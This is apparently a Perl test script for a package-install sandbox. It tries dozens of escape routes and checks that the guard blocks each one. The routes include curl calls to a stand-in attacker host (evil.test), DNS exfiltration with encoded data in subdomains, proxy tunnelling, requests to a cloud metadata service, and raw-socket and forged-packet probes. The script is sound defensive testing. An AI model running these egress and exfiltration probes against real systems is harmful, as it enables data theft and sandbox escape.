#!/usr/bin/perl
# SPDX-License-Identifier: Apache-2.0
#
# A sandbox for code that nobody has read: it may install packages from two
# mirrors, and nothing else. "run" prepares it and starts it; with --check every
# way out is tried twice, without a guard and with it.

use strict;
use warnings;
use FindBin;
use File::Path qw(make_path);
use JSON::PP qw(decode_json);
use Example;
use Harness;
use Hostile;
use World;

require "$FindBin::Bin/mirrors.pl";

$| = 1;
my $here = $FindBin::Bin;
my $dir = scratch();
my $modules = npm_install('code-execution') . '/node_modules';
my $w = example_world(
	env => { OPENSANDBOX_EGRESS_GATE => 'names' },
	dns => [ (map { ("--address=/$_/" . GOOD, "--address=/$_/" . GOOD6) }
		qw(mirror.test neighbour.test)),
		'--address=/evil.test/' . EVIL, '--address=/evil.test/' . EVIL6 ]);
mirrors($w, $here, $dir, $modules);

my $home = home('code');
netns_etc($w->{sandbox}, 'resolv.conf', 'nameserver ' . RESOLVER . "\n");
make_path("$home/.config/pip");
write_file("$home/.config/pip/pip.conf", read_file("$here/pip.conf"));
write_file("$home/.npmrc", read_file("$here/npmrc"));
write_file("$home/mirror-ca.pem", read_file("$dir/ca.crt"));
run('chown', '-R', '65534:65534', $home);

my $policy = decode_json(read_file("$here/policy.json"));
my @pip = ('/usr/bin/python3', '-m', 'pip', 'install', '--target', 'lib');
my @npm = ('npm', 'install');

if (!@ARGV) {
	guard('code', $policy);
	write_file("$dir/enter", "exec '" . join("' '", inside_cmd('code', {}, 'bash')) . "'\n");
	stay(<<"WORDS");

Be the code, from another terminal as root:

  sh $dir/enter

and try

  @pip wheel
  @npm is-odd
  curl https://evil.test/                                 # another name
  curl http://203.0.113.66/                               # an address
  curl -k --resolve neighbour.test:443:203.0.113.20 https://neighbour.test/
                                                          # a neighbour of the mirrors

What is refused, as it happens:

  tail -f $dir/agent.log

WORDS
}

# What the code's command gives: (exit status, output).
sub code { return capture(inside_cmd('code', {}, @_)) }

# Frames that left the sandbox by its interface.
sub frames
{
	my $n = 0;
	$n += leaked($w, $_) for qw(leak good resolver);
	return $n;
}

# How many times the internet's resolver was asked for a name.
sub asked_for
{
	my ($name) = @_;
	return scalar(() = read_file("$dir/dnsmasq.log") =~ /query\[\w+\] \Q$name\E /g);
}

# What curl's exit status says.
my %curl = (6 => 'no such name', 7 => 'refused', 28 => 'no answer', 35 => 'reset',
	56 => 'reset');

# Each way out is a function that returns whether it led out, and the word for it.
sub web
{
	my ($status, $out) = code('curl', '-sk', '-m', '5', '-o', '/dev/null', '-w',
	    '%{http_code}', @_);
	return ($status == 0, $status == 0 ? $out : $curl{$status} // "curl: $status");
}

sub dns
{
	my ($name, @more) = @_;
	my $before = asked_for($name);
	my (undef, $out) = code('dig', '+time=2', '+tries=1', $name, @more);
	my $asked = wait_for(sub { asked_for($name) > $before }, 0.3);
	return ($asked, $out =~ /status: (\w+)/ ? $1
	    : $out =~ /(refused|timed out|reset)/ ? $1 : 'failed');
}

# As the user of the sandbox, and as root of a container that was left
# CAP_NET_RAW; that it led out is seen on the cable.
sub user { return (0, hostile($w, NOBODY, @_)) }
sub raw { return (0, hostile($w, ROOT, @_)) }

my ($own, $own6) = ('10.88.0.5', '2001:db8:88::5');
my @ways = (
	['another name', \&web, 'https://evil.test/'],
	['an address, without a name', \&web, 'http://' . EVIL . '/'],
	['the same over IPv6', \&web, 'https://[' . EVIL6 . ']/'],
	['the mirror\'s name, led to another address', \&web, '--resolve',
		'pypi.mirror.test:443:' . EVIL, 'https://pypi.mirror.test/'],
	['another name at the mirrors\' address', \&web, '--resolve',
		'neighbour.test:443:' . GOOD, 'https://neighbour.test/'],
	['no name at the mirrors\' address', \&web, 'https://' . GOOD . '/'],
	['another port of the mirrors\' address', \&web, 'http://pypi.mirror.test/'],
	['another resolver, UDP', \&dns, 'a.evil.test', '@' . RESOLVER],
	['another resolver, TCP', \&dns, 'b.evil.test', '+tcp', '@' . RESOLVER],
	['another resolver, DNS over TLS', \&dns, 'c.evil.test', '+tls', '@' . RESOLVER],
	['another resolver, DNS over HTTPS', \&dns, 'd.evil.test', '+https', '@' . RESOLVER],
	['data in a name', \&dns, 'c2VjcmV0.evil.test'],
	['data in a name, for a TXT answer', \&dns, 'c2VjcmV1.evil.test', 'TXT'],
	['data in a name below a mirror\'s', \&dns, 'c2VjcmV2.pypi.mirror.test'],
	['a CONNECT proxy', \&web, '-px', 'http://' . EVIL . ':3128', 'https://evil.test/'],
	['a CONNECT proxy at the mirrors\' address', \&web, '-px',
		'http://' . GOOD . ':8888', 'https://evil.test/'],
	['the metadata service of a cloud', \&web, 'http://169.254.169.254/latest/meta-data/'],
	['a port of the host', \&web, 'http://10.88.0.1:8000/'],
	['the host by its other address', \&user, 'tcp', '203.0.113.1', 22],
	['QUIC', \&user, 'udp', EVIL, 443],
	['QUIC to the mirrors', \&user, 'udp', GOOD, 443],
	['QUIC over IPv6', \&user, 'udp', EVIL6, 443],
	['multicast', \&user, 'udp', '224.0.0.251', 5353],
	['ICMP', \&raw, 'ping', EVIL],
	['ICMPv6', \&raw, 'ping', EVIL6],
	['ICMP to the mirrors', \&raw, 'ping', GOOD],
	['raw sockets: UDP', \&raw, 'proto', EVIL, 17],
	['raw sockets: SCTP', \&raw, 'proto', EVIL, 132],
	['raw sockets: IP in IP', \&raw, 'proto', EVIL, 4],
	['raw sockets: a forged source', \&raw, 'header', '192.0.2.9', EVIL, 7],
	['raw sockets: fragments', \&raw, 'fragments', $own, EVIL, 7],
	['packet sockets: a frame', \&raw, 'frame', 'eth0', $own, EVIL, 7],
	['packet sockets: a frame to the mirrors', \&raw, 'frame', 'eth0', $own, GOOD, 443],
	['packet sockets: an IPv6 frame', \&raw, 'frame', 'eth0', $own6, EVIL6, 7],
);

# One way out: whether it led out, the word for it, and frames that left.
sub try_way
{
	my ($way, @args) = @_;
	my $before = frames();
	my ($out, $word) = $way->(@args);
	my $frames = frames() - $before;
	return ($out || $frames > 0 ? 1 : 0, $word, $frames);
}

watch_cable($w);
print "\nWithout a guard: trying ", scalar @ways, " ways out\n";
my @open = map { my (undef, @way) = @$_; (try_way(@way))[0] } @ways;
step('ways that lead out', qr/^(\d+) of \1$/, sub {
	my @closed = map { $open[$_] ? () : $ways[$_][0] } 0 .. $#ways;
	join ', ', grep({ $_ } @open) . ' of ' . @ways, @closed });

guard('code', $policy);
my $asked = length read_file("$dir/dnsmasq.log");

print "\nGuarded: what it may\n";
step('pip install wheel', qr/Successfully installed wheel/, sub { (code(@pip, 'wheel'))[1] });
step('  and Python uses it', qr/^\d+\.\d+/, sub { (code('env', 'PYTHONPATH=/work/lib',
	'/usr/bin/python3', '-c', 'import wheel; print(wheel.__version__)'))[1] });
step('npm install is-odd', qr/added 2 packages/, sub { (code(@npm, 'is-odd'))[1] });
step('  and Node.js uses it', qr/^true$/, sub { (code('node', '-p', 'require("is-odd")(3)'))[1] });

print "\nGuarded: what it may not\n";
step('pip install what the mirror has not', qr/No matching distribution/,
	sub { (code(@pip, 'requests'))[1] });
step('pip install from pypi.org', qr/No matching distribution/,
	sub { (code(@pip, '-i', 'https://pypi.org/simple', 'wheel'))[1] });
step('npm install from registry.npmjs.org', qr/ENOTFOUND/,
	sub { (code(@npm, '--registry', 'https://registry.npmjs.org/', 'is-odd@2.0.0'))[1] });
step('another Host within the mirror\'s TLS: the server says no', qr/^421$/,
	sub { (web('-H', 'Host: neighbour.test', 'https://pypi.mirror.test/'))[1] });

my $quiet = -1;
wait_for(sub { my $last = $quiet; $quiet = frames(); select undef, undef, undef, 0.3;
	$last == $quiet });
for my $way (@ways) {
	my ($name, @way) = @$way;
	step($name, qr/^(?!got out|no answer|timed out|timeout|open).*, 0 packets$/, sub {
		my ($out, $word, $frames) = try_way(@way);
		($out ? 'got out: ' : '') . "$word, $frames packets" });
}

print "\nSeen from outside\n";
step('packets beyond the sandbox\'s interface, of all this', qr/^0$/,
	sub { frames() - $quiet });
step('names that the internet\'s resolver was asked for', qr/^npm\.mirror\.test pypi\.mirror\.test$/,
	sub { my %names = map { $_ => 1 }
		substr(read_file("$dir/dnsmasq.log"), $asked) =~ /query\[\w+\] (\S+) /g;
		join ' ', sort keys %names });
# "REASON NAME" each; a name that DNS denied has no reason.
my @refused = ('name evil.test', 'name pypi.org', 'name registry.npmjs.org',
	'sni_mismatch neighbour.test');
step('the log has who was refused, and why', qr/^4 of 4$/, sub {
	my %seen = map { ($_->{reason} // 'name') . ' ' . $_->{'target.host'} => 1 }
	    grep { ($_->{event} // '') eq 'egress.denied' && defined $_->{'target.host'} }
	    map { eval { decode_json($_) } // () } split /\n/, read_file("$dir/agent.log");
	my @missing = grep { !$seen{$_} } @refused;
	join ', ', @refused - @missing . ' of ' . @refused, @missing });
steps_done();
